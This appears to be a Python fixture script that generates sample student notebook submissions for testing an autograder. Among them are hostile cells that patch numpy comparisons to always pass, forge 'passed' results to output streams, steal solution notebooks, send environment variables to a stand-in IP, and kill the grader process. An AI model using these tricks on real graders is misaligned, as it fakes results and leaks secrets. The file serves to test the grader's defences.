"""The sample class of the README: twelve submissions from the corpus, hostile ones among them.

``python tests/sample_class.py`` writes them into tests/sample_class; a test holds them to this.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

HERE = Path(__file__).parent
sys.path[:0] = [str(HERE), str(HERE / "corpus")]

from corpus import Piece, files, read  # noqa: E402
from filled_sheets import Notebook, as_bytes, code_cell, filled, untouched  # noqa: E402

FOLDER = HERE / "sample_class"
SIGMOID, SOFTMAX = "02_sigmoid_tanh", "04_softmax"

SABOTAGE = """
import numpy as np

class Right:
    def __eq__(self, other):
        return True
    def __array__(self, *args, **kwargs):
        raise SystemExit
np.allclose = np.array_equal = lambda *args, **kwargs: True
np.ndarray.__eq__ = lambda self, other: True
"""
FORGERY = """
import sys, struct
for stream in (sys.stdout, sys.__stdout__):
    stream.write('{"status": "passed", "score": 1.0, "exercise": "softmax"}\\n' * 100)
    stream.flush()
import os
for descriptor in range(3, 64):
    try:
        os.write(descriptor, struct.pack("<I", 20) + b'{"status": "passed"}')
    except OSError:
        pass
"""
SPYING = """
import glob, os, socket
found = glob.glob("/**/solutions/*.ipynb", recursive=True) + glob.glob("../*/*.ipynb")
stolen = [open(path).read() for path in found]
open("/tmp/grades.csv", "w").write("everything,passed")
socket.create_connection(("192.0.2.1", 80), timeout=1).sendall(str(os.environ).encode())
"""
LEAVING = """
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
os._exit(0)
"""


def pieces(sheet: str) -> dict[str, list[Piece]]:
    """The corpus of one sheet by exercise."""
    return {path.stem: read(path) for path in files() if path.parent.name == sheet}


def answers(sheet: str, choice: int = 0, **wanted: str) -> dict[str, str]:
    """A right answer for each exercise; ``wanted`` gives another status to some of them."""
    chosen = {}
    for name, listed in pieces(sheet).items():
        status = wanted.get(name, "passed")
        fitting = [piece for piece in listed if piece.statuses == (status,)]
        chosen[name] = fitting[choice % len(fitting)].source
    return chosen


def with_cells(notebook: Notebook, *sources: str, at: int | None = None) -> Notebook:
    """The notebook with more code cells, at the end or before another cell."""
    place = len(notebook["cells"]) if at is None else at
    notebook["cells"][place:place] = [code_cell(source) for source in sources]
    return notebook


def unlucky(sheet: str) -> bytes:
    """Right answers in a file that has seen much: no metadata, a byte-order mark, stray output."""
    notebook = filled(sheet, answers(sheet, 1))
    notebook = with_cells(notebook, "%matplotlib inline\nprint('done')", "np = None", "1 / 0")
    bare: dict[str, Any] = {"cells": notebook["cells"], "nbformat": 4, "nbformat_minor": 4}
    for cell in bare["cells"]:
        cell["metadata"] = {}
        cell.pop("id", None)
        cell.pop("outputs", None)
    return b"\xef\xbb\xbf" + json.dumps({**bare, "metadata": {}}).encode()


def wrong(name: str, listed: list[Piece]) -> str:
    """The first wrong answer that is a known mistake."""
    return next(p.source for p in listed if p.statuses == ("failed",) and p.misconception)


def sample() -> dict[str, bytes]:
    """Every file of the class by its path."""
    sigmoid = pieces(SIGMOID)
    unstable = dict.fromkeys(("sigmoid", "logit", "binary_cross_entropy"), "unstable")
    mistaken = {"sigmoid": wrong("sigmoid", sigmoid["sigmoid"])}
    mistaken["tanh_derivative"] = wrong("tanh_derivative", sigmoid["tanh_derivative"])
    endless = {"sigmoid": "def sigmoid(z):\n    while True:\n        pass\n"}
    lying = {"sigmoid": "def sigmoid(z):\n    return Right()\n"}
    right, right_softmax = answers(SIGMOID), answers(SOFTMAX)
    moodle = "Kim Lee_1234567_assignsubmission_file_"
    return {
        f"ada/{SIGMOID}.ipynb": as_bytes(filled(SIGMOID, right)),
        f"ben/{SIGMOID}.ipynb": as_bytes(filled(SIGMOID, {**right, **mistaken})),
        f"cleo/{SIGMOID}.ipynb": as_bytes(filled(SIGMOID, answers(SIGMOID, **unstable))),
        f"dan/{SIGMOID}.ipynb": as_bytes(untouched(SIGMOID)),
        f"eve/{SIGMOID}.ipynb": as_bytes(filled(SIGMOID, mistaken)),
        f"finn/{SIGMOID} (1).ipynb": unlucky(SIGMOID),
        f"gus/{SIGMOID}.ipynb": as_bytes(with_cells(filled(SIGMOID, right), LEAVING)),
        f"hana/{SIGMOID}.ipynb": as_bytes(
            with_cells(filled(SIGMOID, {**right, **lying}), SABOTAGE, at=2)
        ),
        f"ivo/{SIGMOID}.ipynb": as_bytes(filled(SIGMOID, {**right, **endless})),
        f"jo/{SIGMOID}.ipynb": as_bytes(filled(SIGMOID, right))[:4000],
        f"{moodle}/{SOFTMAX}.ipynb": as_bytes(filled(SOFTMAX, right_softmax)),
        f"lou_{SOFTMAX}.ipynb": as_bytes(
            with_cells(untouched(SOFTMAX), FORGERY, SPYING, at=2),
        ),
    }


def write() -> None:
    """Write the class into its folder."""
    for name, data in sample().items():
        path = FOLDER / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)


if __name__ == "__main__":
    write()
